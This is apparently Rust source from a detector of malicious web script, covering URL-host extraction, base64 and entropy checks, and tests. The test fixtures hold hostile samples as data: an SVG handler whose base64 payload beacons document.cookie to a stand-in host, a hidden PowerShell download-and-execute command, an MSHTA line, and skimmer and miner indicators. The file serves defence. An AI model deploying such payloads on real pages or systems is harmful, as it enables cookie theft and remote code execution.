/// Bits per byte above which a long string counts as high-entropy (English text is about 4.2;
/// base64 approaches 6).
const HIGH_ENTROPY_BITS: f64 = 5.2;

fn is_high_entropy(value: &str) -> bool {
    value.len() >= HIGH_ENTROPY_MIN_LEN
        && !value.contains(' ')
        && entropy(value) >= HIGH_ENTROPY_BITS
}

/// The host of a URL inside a string (`https://host/...`, `//host/...`, `wss://host`), or of
/// the URL a piece of markup loads or posts to (see [`markup_host`]), lower case, without
/// port or credentials. `None` when the string has no such URL.
pub fn url_host(value: &str) -> Option<String> {
    plain_url_host(value).or_else(|| markup_host(value))
}

/// The host of the URL in the first `src=` or `action=` attribute of some markup, quoted or
/// not: what `document.write("<script src='https://x.example/a.js'>")` loads. The markup may
/// stop after the URL (its rest concatenated at run time). Links (`href`) are not counted:
/// templates of benign widgets link to documentation.
fn markup_host(value: &str) -> Option<String> {
    let bytes = value.as_bytes();
    if value.len() > MARKUP_SCAN_MAX || !bytes.contains(&b'<') || !bytes.contains(&b'=') {
        return None;
    }
    let lower = value.to_ascii_lowercase();
    for attr in ["src=", "action="] {
        let mut from = 0;
        while let Some(i) = lower[from..].find(attr) {
            let at = from + i;
            from = at + attr.len();
            if !at
                .checked_sub(1)
                .is_some_and(|p| bytes[p].is_ascii_whitespace())
            {
                continue;
            }
            let rest = value[from..].trim_start_matches(['"', '\'', '\\']);
            // The URL must start the value: `plain_url_host` takes what precedes `://` as
            // its scheme.
            if let Some(host) = plain_url_host(rest) {
                return Some(host);
            }
        }
    }
    None
}

/// [`url_host`] without markup.
fn plain_url_host(value: &str) -> Option<String> {
    // Most strings have no `:`; a byte scan says so cheaper than a substring search starts.
    let scheme_end = if value.as_bytes().contains(&b':') {
        value.find("://")
    } else {
        None
    };
    let rest = if let Some(i) = scheme_end {
        let scheme = &value[..i];
        if scheme.is_empty()
            || !scheme
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || b == b'+' || b == b'-' || b == b'.')
        {
            return None;
        }
        &value[i + 3..]
    } else {
        value.strip_prefix("//")?
    };
    let end = rest
        .find(['/', '?', '#', '"', '\'', ' ', '\\'])
        .unwrap_or(rest.len());
    let authority = &rest[..end];
    let host_port = authority.rsplit('@').next().unwrap_or(authority);
    let host = match host_port.rfind(':') {
        Some(i) if !host_port.starts_with('[') => &host_port[..i],
        _ => host_port,
    };
    let host = host.trim_end_matches('.');
    let valid = host.len() >= 3
        && host.len() <= 253
        && host.contains('.')
        && host
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b == b'.' || b == b'-');
    valid.then(|| host.to_ascii_lowercase())
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::strategy::Strategy;

    #[test]
    fn markup_names_the_host_it_loads_from() {
        let write = "<script type='text/javascript' src='https://miner.invalid/lib/m.js?rnd=";
        assert_eq!(url_host(write).as_deref(), Some("miner.invalid"));
        assert_eq!(
            url_host("<form method=post action=//collect.invalid/p>").as_deref(),
            Some("collect.invalid")
        );
        assert_eq!(
            url_host("<IMG SRC=\"https://pixel.invalid/a.gif\">").as_deref(),
            Some("pixel.invalid")
        );
        // A link, a relative source, an attribute that only ends in `src`.
        assert_eq!(
            url_host("<a href='https://docs.example.org/'>docs</a>"),
            None
        );
        assert_eq!(
            url_host("<img src='img/a.png' alt='https://x.example/'>"),
            None
        );
        assert_eq!(
            url_host("<img data-src='https://lazy.example/a.png'>"),
            None
        );
    }

    #[test]
    fn hosts_come_out_of_urls() {
        assert_eq!(
            url_host("https://baways.com/gateway/app/dataprocessing/api/").as_deref(),
            Some("baways.com")
        );
        assert_eq!(
            url_host("//Cdn.Example.COM:8443/x.js").as_deref(),
            Some("cdn.example.com")
        );
        assert_eq!(
            url_host("wss://u:p@pool.example.org").as_deref(),
            Some("pool.example.org")
        );
        assert_eq!(url_host("/relative/path"), None);
        assert_eq!(url_host("not a url"), None);
        assert_eq!(url_host("javascript://x"), None);
    }

    #[test]
    fn card_fields_and_events_are_recognised() {
        assert_ne!(string_signals("billing[cc_number]") & SRC_CARD, 0);
        assert_ne!(string_signals("#checkout-payment") & CHECKOUT_WORD, 0);
        assert_ne!(string_signals("keyup") & SRC_KEY, 0);
        assert_eq!(string_signals("Hello, world") & (SRC_CARD | SRC_KEY), 0);
        assert_ne!(name_signals("sendBeacon") & SINK_BEACON, 0);
        assert_eq!(name_signals("map"), 0);
    }

    #[test]
    fn vocabulary_words_match_in_any_case_anywhere() {
        assert_eq!(word_signals("billing[CC_Number]"), SRC_CARD | CHECKOUT_WORD);
        assert_eq!(word_signals("ÄÖ-CheckOUT-ü"), CHECKOUT_WORD);
        assert_eq!(word_signals("xcoin-hivex"), MINER);
        assert_eq!(word_signals("cv"), 0, "a word cut off by the end");
        assert_eq!(word_signals("pay ment cvx"), 0);
        assert_eq!(word_signals(&"payment".repeat(40)), 0, "too long to scan");
    }

    #[test]
    fn base64_literals_give_up_their_words() {
        assert_eq!(hidden_text("c2NyaXB0").as_deref(), Some("script"));
        let (s, host) = hidden_signals("Y3JlYXRlRWxlbWVudA==");
        assert_ne!(s & SINK_INJECT, 0);
        assert_ne!(s & HIDDEN_TEXT, 0);
        assert_eq!(host, None);
        let (_, host) = hidden_signals("aHR0cHM6Ly9zdGF0aWMtbG9hZGVyLmludmFsaWQvbGliLmpz");
        assert_eq!(host.as_deref(), Some("static-loader.invalid"));
        assert_eq!(hidden_signals("abcdefgh"), (0, None), "binary when decoded");
        assert_eq!(
            hidden_signals("aGVsbG8gd29ybGQ="),
            (0, None),
            "hello world: no vocabulary"
        );
        assert_eq!(hidden_signals("not base64!"), (0, None));
    }

    #[test]
    fn markup_with_script_gives_up_its_code() {
        // An event-handler attribute that runs base64 code kept in another attribute.
        let icon = "<svg onload=\"eval(atob(this.getAttribute('data-x')))\" \
                    data-x=\"bmF2aWdhdG9yLnNlbmRCZWFjb24oJ2h0dHBzOi8veC5pbnZhbGlkL2MnLGRvY3VtZW50LmNvb2tpZSk=\"/>";
        let (s, host) = hidden_signals(icon);
        assert_ne!(s & MARKUP_CODE, 0);
        assert_ne!(s & DYN_EVAL, 0);
        assert_ne!(s & DECODE, 0);
        assert_ne!(s & SINK_BEACON, 0, "the decoded attribute's code");
        assert_eq!(host.as_deref(), Some("x.invalid"));
        // A script element's body.
        let (s, _) = hidden_signals("<script>document.write(location.href)</script>");
        assert_ne!(s & MARKUP_CODE, 0);
        assert_ne!(s & SINK_INJECT, 0);
        // Markup without script, and the empty script elements libraries write.
        assert_eq!(
            hidden_signals("<div class=\"x\" title=\"on=1\">once</div>"),
            (0, None)
        );
        assert_eq!(hidden_signals("<script></script>"), (0, None));
    }

    /// Pieces of markup, quotes, base64 and text, joined at random: the markup reader
    /// slices by positions it found, so it must hold on any mix of them.
    fn markup_soup() -> impl Strategy<Value = String> {
        const PIECES: &[&str] = &[
            "<script>",
            "</script>",
            "<script",
            "<svg ",
            " onload=",
            " on",
            "=",
            "\"",
            "'",
            ">",
            "<",
            "eval(",
            "atob(",
            ")",
            "fetch('https://a.invalid/')",
            "Zm9vKCk=",
            "aHR0cHM6Ly9iLmludmFsaWQv",
            "ü",
            "€",
            " ",
            "x",
            "--a",
            "powershell ",
        ];
        proptest::collection::vec(0..PIECES.len(), 0..40)
            .prop_map(|ix| ix.into_iter().map(|i| PIECES[i]).collect::<String>())
    }

    proptest::proptest! {
        #[test]
        fn hidden_signals_hold_on_any_markup(soup in markup_soup()) {
            let first = hidden_signals(&soup);
            proptest::prop_assert_eq!(first, hidden_signals(&soup));
            let _ = string_signals(&soup);
        }

        #[test]
        fn a_sink_in_a_handler_attribute_is_always_seen(
            before in markup_soup().prop_filter("no quote", |s| !s.contains(['"', '\''])),
        ) {
            let markup = format!("{before}<img src=x onerror=\"navigator.sendBeacon('/c', 1)\">");
            let (s, _) = hidden_signals(&markup);
            proptest::prop_assert_ne!(s & MARKUP_CODE, 0);
            proptest::prop_assert_ne!(s & SINK_BEACON, 0);
        }
    }

    #[test]
    fn channels_commands_and_style_text_are_recognised() {
        assert_ne!(name_signals("RTCPeerConnection") & SINKS, 0);
        assert_ne!(string_signals("dns-prefetch") & SINK_HINT, 0);
        assert_eq!(string_signals("preload") & SINKS, 0, "media preloading");
        assert_ne!(
            string_signals("powershell -w hidden -c \"iwr https://x.invalid/a | iex\"")
                & SHELL_COMMAND,
            0
        );
        assert_ne!(
            string_signals("MSHTA https://x.invalid/v.hta") & SHELL_COMMAND,
            0
        );
        assert_eq!(string_signals("Press Ctrl + V to paste") & SHELL_COMMAND, 0);
        assert_ne!(string_signals("--theme-font-src") & STYLE_TEXT, 0);
        assert_eq!(string_signals("--") & STYLE_TEXT, 0);
        assert_eq!(string_signals("--x y") & STYLE_TEXT, 0);
        assert_ne!(name_signals("writeText") & CLIPBOARD, 0);
        assert!(is_bare_scheme("//"));
    }

    #[test]
    fn entropy_separates_packed_data_from_text() {
        let text = "the quick brown fox jumps over the lazy dog ".repeat(5);
        const B64: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let mut x = 0x2545_f491_u32;
        let packed: String = (0..200)
            .map(|_| {
                x ^= x << 13;
                x ^= x >> 17;
                x ^= x << 5;
                char::from(B64[(x % 64) as usize])
            })
            .collect();
        assert_eq!(string_signals(&text) & HIGH_ENTROPY, 0);
        assert_ne!(
            string_signals(&packed) & HIGH_ENTROPY,
            0,
            "entropy {}",
            entropy(&packed)
        );
    }
}
